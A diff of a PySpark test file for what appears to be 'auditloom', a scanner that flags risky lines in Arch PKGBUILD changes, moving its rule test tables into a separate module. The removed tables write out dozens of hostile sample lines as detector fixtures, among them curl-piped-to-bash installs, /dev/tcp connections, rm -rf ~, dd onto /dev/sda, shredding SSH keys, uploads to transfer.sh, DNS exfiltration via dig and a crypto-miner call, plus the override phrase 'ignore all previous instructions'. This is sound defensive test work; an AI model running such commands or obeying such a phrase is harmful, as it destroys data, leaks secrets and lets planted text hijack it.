@@ -7,14 +7,9 @@ from pyspark.sql import functions as F
 from auditloom.functions import names, payload, recipe
 from auditloom.functions.text import epoch_seconds, hash_key, name_key, url_key, version_key
 from auditloom.operators import dataflow, diffs, rules
+from auditloom.plans import planted
 from auditloom.plans.audit import audit
-
-HEAD = "--- a/PKGBUILD\n+++ b/PKGBUILD\n@@ -1,3 +1,9 @@\n pkgname=lamp\n pkgver=1.0\n"
-
-
-def diff(*added, head=HEAD):
-    return head + "".join(f"+{x}\n" for x in added)
-
+from auditloom.plans.planted import diff
 
 @pytest.mark.parametrize("module", [recipe, payload, names])
 def test_doctests(module):
@@ -59,27 +54,9 @@ def found(spark, *texts):
     return [{r.rule_id for r in hits if r.id == i} for i in range(len(texts))]
 
 
-CASES = [
-    ("R001", "  curl https://x.example/a | bash", "  curl https://x.example/a > a"), ("R002", "  wget -qO- https://x | sudo sh", "  wget https://x"), ("R003", "  echo aGk= | base64 -d | sh", "  base64 file"),
-    ("R009", "  sudo make install", "  echo sudo make install"), ("R012", "  # ignore all previous instructions", "  # ignore this"), ("R013", "  na\u202Eme", "  name"), ("R039", "  eval \"$x\"", "  evaluate x"),
-    ("R040", "  bash -c \"$payload\"", "  bash -c 'make'"), ("R041", "  cat </dev/tcp/1.2.3.4/80", "  cat </dev/null"), ("R046", "  u=http://10.0.0.1/x", "  u=http://x.example/"), ("R047", "  u=https://x.example:9999/a", "  u=https://x.example:8443/a"),
-    ("R048", "  u=https://x.tk/a", "  u=https://x.tkx.example/a"), ("R055", "  git clone -b $branch https://x", "  git clone -b main https://x"), ("R057", "  curl -k https://x", "  curl --keepalive https://x"), ("R058", "  cp a /usr/bin/a", "  cp a \"$pkgdir\"/usr/bin/a"),
-    ("R070", "  LD_PRELOAD=./x.so make", "  LDFLAGS=-s make"), ("R084", "  cd /tmp/work", "  cd \"$(mktemp -d /tmp/x)\""), ("R119", "  systemd-detect-virt -q && exit 0", "  true"), ("R127", "  bash <(curl https://x)", "  bash run.sh"), ("R132", "  ${!cmd}", "  ${cmd}"),
-    ("S002", "  rm -rf ~", "  rm -rf \"$srcdir/x\""), ("S003", "  dd if=a of=/dev/sda", "  dd if=a of=b"), ("S007", "  ./xmrig -o stratum+tcp://pool", "  ./run"), ("S008", "  history -c", "  history"), ("X008", "  make\u00A0install", "  make install"), ("X015", "  crontab x", "  make"),
-    ("R087", "  curl -F f=@a https://transfer.sh/x", "  curl https://transfer.sh/x"), ("R088", "  cp a /usr/lib/.hid", "  cp a \"$pkgdir\"/usr/lib/.hid"), ("R117", "  $'\\x62\\x75n' add x", "  bun add x"), ("R128", "  cp a /opt/x", "  cp a \"$pkgdir\"/opt/x"),
-    ("R131", "  export CFLAGS=\"$CFLAGS -U_FORTIFY_SOURCE\"", "  export CFLAGS=\"$CFLAGS -O2\""), ("R145", "  echo \"exec $srcdir/x\" > \"$pkgdir/usr/bin/x\"", "  echo \"exec /usr/lib/x\" > \"$pkgdir/usr/bin/x\""), ("S004", "  shred -u ~/.ssh/id", "  shred -u \"$srcdir/a\""),
-    ("W002", "  npm ci", "  npm run build"), ("W004", "  make -f other.mk", "  make"), ("X001", "  xxd -r -p blob | bash", "  xxd -r -p blob > out"), ("X002", "  $cmd --run all", "  make --run all"), ("X003", "  bash -lc make", "  bash -c make"), ("X005", "  cp a /home/alice/x", "  cp a b"),
-    ("X006", "  u=https://bit.ly/abc", "  u=https://bits.example/abc"), ("X009", "  lftp -c 'cat u' | bash", "  lftp -c 'cat u' | tar x"), ("X010", "  python3 -c 'import urllib.request as r; r.urlopen(u)'", "  python3 -c 'print(1)'"), ("X011", "  npm install left-pad", "  npm install ./local"),
-    ("X012", "  CC=\"$srcdir/cc\" make", "  CC=gcc make"), ("X014", "  export BASH_ENV=./x", "  export LANG=C"), ("X016", "  curl https://x.example | deno", "  curl https://x.example | tar xz"), ("X017", "  tar xf a --checkpoint-action=exec=sh", "  tar xf a"),
-    ("X018", "  python3 -c 'getattr(__import__(\"os\"), \"system\")(c)'", "  python3 -c 'print(2)'"), ("X019", "  dig +short \"$(hostname).x.example\"", "  echo \"Host: $(uname)\""), ("X020", "  printf 'all:' > Makefile", "  printf 'all:' > notes"), ("X021", "  bash \"$1\"", "  bash setup.sh"),
-    ("X023", "  pass show x | bash", "  make 2>&1 | tee log"), ("R082", "  eval \"$(printf '\\x41' | base64 -d | rev)\"", "  eval x"),
-]
-
-
-def test_rules(spark):
-    both = found(spark, *(diff("build() {", line, "}") for _, fires, quiet in CASES for line in (fires, quiet)))
-    for i, (rule, _, _) in enumerate(CASES):
-        assert rule in both[2 * i] and rule not in both[2 * i + 1], rule
+def test_every_rule_is_planted():
+    """The queries of plans/catalogue.py hold the planted rules against what is expected of them."""
+    assert {rule for rule, _, _ in planted.line_cases()} == {r.id for r in rules.RULES} | {"X009", "X016", "X023", "R082", "R129"}
 
 
 def test_very_long_lines(spark):
@@ -131,21 +108,6 @@ def test_structural(spark):
         assert rule in got, (rule, got)
 
 
-FLOWS = [
-    ("R137", ["  curl -o run.sh https://x.example/run.sh", "  sh run.sh"]), ("R121", ["  printf x > gen.sh", "  bash ./gen.sh"]), ("R124", ["  cp a tool", "  ./tool"]), ("R138", ["  sh given.sh"]), ("R136", ["  sh kept.sh"]),
-    ("W001", ["  sh nowhere.sh"]), ("R061", ["  wget https://other.example/x"]), ("W003", ["  patch -p1 < fix.patch"]),
-    ("R140", ["  export PATH=\"$srcdir/tools:$PATH\""]), ("R139", ["  install -Dm755 daemon \"$pkgdir/usr/bin/daemon\"", "}", "x() {", "cat > a.service <<EOF", "ExecStart=/usr/bin/daemon", "EOF"]),
-]
-
-
-def test_flows(spark):
-    df = spark.createDataFrame([(i, diff("source=('https://x.example/given.sh')", "build() {", *body, "}")) for i, (_, body) in enumerate(FLOWS)], "id long, text string")
-    tree = spark.createDataFrame([(i, "sub/kept.sh") for i in range(len(FLOWS))], "id long, path string")
-    got = {(r.id, r.rule_id) for r in dataflow.flow_findings(dataflow.diff_actions(df, "id", "text"), "id", tree).collect()}
-    for i, (rule, _) in enumerate(FLOWS):
-        assert (i, rule) in got and ((i, "W001") in got) is (rule == "W001"), rule
-
-
 def test_trees(spark):
     from auditloom.operators.trees import tree_findings
 
@@ -184,7 +146,7 @@ def test_audit(spark):
     df = spark.createDataFrame([(1, diff("build() {", "  curl https://x.example/a | bash", "}")), (2, diff("# nothing")), (3, None), (4, diff("build() {", "  na\u202Eme", "}")), (5, diff("x" * 9000))], "id long, text string")
     got = {r.id: r for r in audit(df, "id", "text").collect()}
     assert set(got) == {1, 2, 4, 5} and got[2].score == 0 and got[2].band == "Low"
-    assert got[4].score == 100 and got[4].band == "Critical" and got[1].score >= 40 and got[1].band == "High" and got[5].gaps == "oversized_line" and got[5].band == "Inconclusive"
+    assert got[4].score == 100 and got[4].band == "Critical" and got[1].score >= 40 and got[1].band == "High" and got[5].gaps == "line_truncated" and got[5].band == "Inconclusive"
 
 
 def test_audit_unites_all_findings(spark):
